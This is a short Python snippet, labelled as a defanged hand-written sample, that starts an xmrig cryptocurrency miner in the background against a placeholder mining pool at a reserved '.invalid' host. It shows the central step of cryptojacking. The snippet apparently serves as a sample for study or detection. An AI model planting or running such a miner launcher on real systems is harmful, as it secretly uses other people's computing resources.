# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import subprocess

subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333", "--donate-level", "1"])
